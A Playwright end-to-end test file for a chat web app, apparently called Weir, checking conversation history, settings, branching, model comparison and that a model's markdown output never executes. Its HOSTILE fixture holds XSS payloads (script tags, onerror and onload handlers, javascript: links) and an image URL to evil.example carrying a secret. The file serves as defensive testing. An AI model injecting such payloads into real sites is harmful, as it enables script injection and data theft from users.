"""Conversations in a real browser: kept, found again, branched, compared; and nothing that a model writes runs."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Page, Route, expect

from inference.models import Conversation
from tests.e2e.conftest import Visitor
from tests.e2e.site import MODEL, Site
from tests.e2e.test_chat_frames import FarEnd, ask
from tests.factories import Cast

HOSTILE = """<script>document.title = "owned"</script>
<img src=x onerror="document.title='owned'"> and **bold** [click](javascript:alert(1)) [data](data:text/html,x)
![picture](https://evil.example/p.png?secret) <https://example.org/ok>

```python
def greet(name: str) -> str:
    return "<b>" + name  # </code></pre><script>document.title = "owned"</script>
```

| a <svg onload=alert(1)> | b |
|---|---|
| `1` | 2 |

<style>body { display: none }</style>
"""


@pytest.fixture
def visitor(visit: Callable[..., Visitor], cast: Cast) -> Visitor:
    visitor = visit()
    visitor.sign_in(cast.owner.email)
    return visitor


@pytest.fixture
def far_end(visitor: Visitor, cast: Cast) -> FarEnd:
    far_end = FarEnd(visitor.page)
    visitor.page.goto(f"/t/{cast.tenant.public_id}/chat/")
    visitor.page.locator('#connection[data-state="open"]').wait_for()
    return far_end


def converse(page: Page, far_end: FarEnd, question: str, text: str) -> None:
    ask(page, question)
    generation = far_end.begin()
    far_end.say(type="delta", id=generation, seq=0, text=text, tokens=3)
    far_end.finish(generation, 3)
    expect(page.get_by_role("button", name="Send")).to_be_visible()


def answers(page: Page) -> list[str]:
    return [text.strip() for text in page.locator(".turn.assistant [data-text]").all_inner_texts()]


def test_nothing_of_a_models_markdown_runs(visitor: Visitor, far_end: FarEnd):
    page = visitor.page
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    converse(page, far_end, "<img src=x onerror=alert(1)>", HOSTILE)
    text = page.locator(".turn.assistant [data-text]")
    expect(text.locator("strong")).to_have_text("bold")
    expect(text.locator("pre code .hljs-keyword").first).to_have_text("def")
    expect(text.locator("td")).to_have_text(["1", "2"])
    expect(text).to_contain_text('<script>document.title = "owned"</script>')
    assert page.locator("#log").locator("script, img, style, iframe, form[action], object").count() == 0
    assert text.locator("a[href]").evaluate_all("links => links.map(link => link.href)") == [
        "https://evil.example/p.png?secret",
        "https://example.org/ok",
    ]
    assert page.locator("#log *").evaluate_all(
        "all => all.every(one => one.getAttributeNames().every(name => !/^(on|style)/.test(name)))"
    )
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    text.get_by_role("button", name="Copy the code").click()
    expect(text.get_by_role("button", name="Copy the code")).to_have_text("Copied")
    copied = page.evaluate("navigator.clipboard.readText()")
    assert copied.startswith("def greet(name: str)")
    assert '</code></pre><script>document.title = "owned"</script>' in copied
    assert page.title() == "Chat · Weir"
    assert not [url for url in requests if "evil.example" in url or url.endswith("/x")]
    visitor.shoot("chat-markdown")
    violations = Axe().run(page, options={"runOnly": ["wcag2a", "wcag2aa", "wcag21aa", "wcag22aa"]})
    assert violations.violations_count == 0, violations.generate_report()


def test_a_conversation_is_found_again_elsewhere(
    visitor: Visitor, far_end: FarEnd, visit: Callable[..., Visitor], cast: Cast
):
    page = visitor.page
    converse(page, far_end, "Why is the sky blue?", "Rayleigh.")
    history = page.get_by_role("complementary", name="Conversations")
    expect(history.get_by_role("link", name="Why is the sky blue?")).to_be_visible()
    page.get_by_role("button", name="New chat").click()
    assert answers(page) == []
    converse(page, far_end, "How is tea made?", "Steep it.")
    expect(history.get_by_role("link")).to_have_text(["How is tea made?", "Why is the sky blue?"])
    visitor.shoot("chat-history")

    elsewhere = visit(390, 780, "dark")
    elsewhere.sign_in(cast.owner.email)
    FarEnd(elsewhere.page)
    elsewhere.page.goto(f"/t/{cast.tenant.public_id}/chat/")
    elsewhere.page.get_by_role("button", name="History").click()
    elsewhere.page.get_by_role("searchbox", name="Search conversations").fill("rayleigh")
    link = elsewhere.page.get_by_role("link", name="Why is the sky blue?")
    expect(elsewhere.page.locator("#history-list > li")).to_have_count(1)
    elsewhere.shoot("chat-history-phone")
    link.click()
    expect(elsewhere.page.locator(".turn.assistant [data-text]")).to_have_text("Rayleigh.")
    elsewhere.page.reload()
    expect(elsewhere.page.locator(".turn.assistant [data-text]")).to_have_text("Rayleigh.")


def test_what_is_set_is_found_again_elsewhere(
    visitor: Visitor, far_end: FarEnd, visit: Callable[..., Visitor], cast: Cast
):
    page = visitor.page
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("System prompt").fill("Answer as a pirate.")
    page.get_by_label("Temperature", exact=True).fill("0.2")
    page.get_by_label("Compare with").select_option(MODEL)
    ask(page, "Which way is north?")
    for generation in (far_end.begin(), far_end.begin()):
        far_end.finish(generation, far_end.answer(generation, "Arr."))
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    with page.expect_request(lambda request: request.method == "PATCH"):  # told without another question
        page.get_by_label("Compare with").select_option("")
        page.get_by_label("Seed").fill("42")
    page.get_by_role("button", name="New chat").click()
    page.get_by_label("System prompt").fill("Answer as a lawyer.")
    page.reload()
    expect(page.get_by_label("System prompt")).to_have_value("Answer as a lawyer.")  # of a chat not begun
    page.get_by_role("link", name="Which way is north?").click()
    expect(page.get_by_label("System prompt")).to_have_value("Answer as a pirate.")

    elsewhere = visit(390, 780, "dark")
    elsewhere.sign_in(cast.owner.email)
    far_end = FarEnd(elsewhere.page)
    elsewhere.page.goto(f"/t/{cast.tenant.public_id}/chat/")
    elsewhere.page.get_by_role("button", name="History").click()
    elsewhere.page.get_by_role("link", name="Which way is north?").click()
    elsewhere.page.get_by_role("button", name="Settings").click()
    expect(elsewhere.page.get_by_label("Temperature", exact=True)).to_have_value("0.2")
    expect(elsewhere.page.get_by_label("Compare with")).to_have_value("")
    elsewhere.shoot("chat-settings-phone")
    elsewhere.page.get_by_role("button", name="Settings").click()
    ask(elsewhere.page, "And south?")
    start = far_end.hear("start")
    assert start["messages"][0] == {"role": "system", "content": "Answer as a pirate."}
    assert start["params"] == {"temperature": 0.2, "max_tokens": 512, "seed": 42}
    assert not far_end.sent


def test_what_is_set_while_the_first_answer_is_being_saved_comes_after_it(visitor: Visitor, far_end: FarEnd):
    page = visitor.page
    held: list[Route] = []
    order: list[str] = []
    page.route("**/exchanges/**", lambda route: held.append(route))
    page.on("requestfinished", lambda request: order.append(request.method))
    ask(page, "Which way is north?")
    generation = far_end.begin()
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("Seed").fill("42")
    far_end.finish(generation, far_end.answer(generation, "Arr."))
    page.wait_for_timeout(1000)  # as long as the page waits for more to be set, and more
    with page.expect_response(lambda response: response.request.method == "PATCH") as changed:
        page.unroute("**/exchanges/**")  # and lets go what was held
    assert held
    assert changed.value.ok
    assert next(method for method in order if method in ("PUT", "PATCH")) == "PUT"


def test_edit_retry_and_the_way_back(visitor: Visitor, far_end: FarEnd):
    page = visitor.page
    converse(page, far_end, "First", "One.")
    converse(page, far_end, "Second", "Two.")
    page.locator(".turn.user").first.get_by_role("button", name="Edit").click()
    edit = page.locator(".turn.user").first.get_by_role("button", name="Edit")
    expect(edit).to_be_hidden()
    page.get_by_label("The question, changed").first.fill("First, but")
    page.reload()
    expect(page.get_by_label("The question, changed").first).to_have_value("First, but")
    page.locator('#connection[data-state="open"]').wait_for()
    page.get_by_label("The question, changed").first.fill("First, but better")
    far_end.sent.clear()
    page.keyboard.press("Enter")
    start = far_end.hear("start")
    assert [message["content"] for message in start["messages"]] == ["First, but better"]
    far_end.say(type="started", id=start["id"], request_id="r2", model=MODEL, prompt_tokens=3)
    far_end.say(type="delta", id=start["id"], seq=0, text="Better.", tokens=1)
    far_end.finish(start["id"], 1)
    expect(page.get_by_text("2 of 2")).to_be_visible()
    assert answers(page) == ["Better."]
    expect(page.get_by_role("link", name="Timeline")).to_have_attribute("href", "../requests/r2/")
    visitor.shoot("chat-branch")
    page.get_by_role("button", name="Earlier version").click()
    assert answers(page) == ["One.", "Two."]
    page.get_by_role("button", name="Retry").last.click()
    first = page.locator(".turn.assistant").first.get_by_role("button", name="Retry")
    expect(first).to_be_disabled()  # one answer at a time
    far_end.finish(*((generation := far_end.begin()), far_end.answer(generation, "Two again.")))
    expect(first).to_be_enabled()
    expect(page.locator(".turn.assistant [data-text]").last).to_have_text("Two again.")
    page.reload()
    expect(page.locator(".turn.assistant [data-text]")).to_have_text(["One.", "Two again."])


def test_two_models_side_by_side(visitor: Visitor, far_end: FarEnd):
    page = visitor.page
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("Compare with").select_option(MODEL)
    page.get_by_role("button", name="Settings").click()
    ask(page, "Which is better?")
    first, second = far_end.begin(), far_end.begin()
    far_end.finish(first, far_end.answer(first, "This one."))
    far_end.finish(second, far_end.answer(second, "That one."))
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    expect(page.locator(".pair .turn [data-text]")).to_have_text(["This one.", "That one."])
    visitor.shoot("chat-compare")
    page.get_by_role("button", name="Go on with this answer").click()
    far_end.sent.clear()
    ask(page, "Why?")
    start = far_end.hear("start")
    assert [message["content"] for message in start["messages"]] == ["Which is better?", "That one. ", "Why?"]


def test_a_list_that_is_read_again_leaves_an_open_menu_and_a_half_typed_name_alone(
    visitor: Visitor, far_end: FarEnd
):
    page = visitor.page
    converse(page, far_end, "First", "One.")
    page.get_by_label("Actions for First").click()
    page.get_by_role("button", name="Rename").click()
    page.get_by_label("New title").fill("Half a na")
    page.locator("#history-list > li").evaluate("item => item.marked = true")
    with page.expect_response(lambda answer: "/chat/conversations/?" in answer.url):
        page.evaluate("document.getElementById('history-search').dispatchEvent(new Event('input'))")
    page.get_by_label("New title").press_sequentially("me")
    page.keyboard.press("Enter")
    expect(page.locator("#history-list > li a.history-link")).to_have_text("Half a name")
    page.get_by_role("button", name="New chat").click()
    converse(page, far_end, "Second", "Two.")
    expect(page.locator("#history-list > li a.history-link")).to_have_text(["Second", "Half a name"])
    assert page.locator("#history-list > li").evaluate_all("items => items.map(item => !!item.marked)") == [
        False,
        True,
    ]
    expect(page.get_by_label("Actions for Half a name")).to_be_visible()


def test_rename_export_and_delete_by_keyboard(visitor: Visitor, far_end: FarEnd, site: Site, cast: Cast):
    page = visitor.page
    converse(page, far_end, "<b>First</b>", "One.")
    menu = page.get_by_label("Actions for <b>First</b>")
    menu.focus()
    page.keyboard.press("Enter")
    with page.expect_download() as download:
        page.get_by_role("link", name="Export as Markdown").click()
    assert "## You\n\n<b>First</b>\n\n" in download.value.path().read_text()
    page.get_by_role("button", name="Rename").focus()
    page.keyboard.press("Enter")
    page.get_by_label("New title").fill("A <i>name</i>")
    page.keyboard.press("Enter")
    link = page.get_by_role("complementary", name="Conversations").get_by_role("link", name="A <i>name</i>")
    expect(link).to_be_visible()
    page.reload()
    expect(link).to_be_visible()
    page.get_by_label("Actions for").focus()
    page.keyboard.press("Enter")
    page.get_by_role("button", name="Delete", exact=True).click()
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text("Delete “A <i>name</i>”?")
    dialog.get_by_role("button", name="Delete").click()
    expect(page.get_by_text("What you ask is kept here")).to_be_visible()
    assert answers(page) == []
    assert site.do(lambda: not Conversation.objects.filter(tenant=cast.tenant).exists())
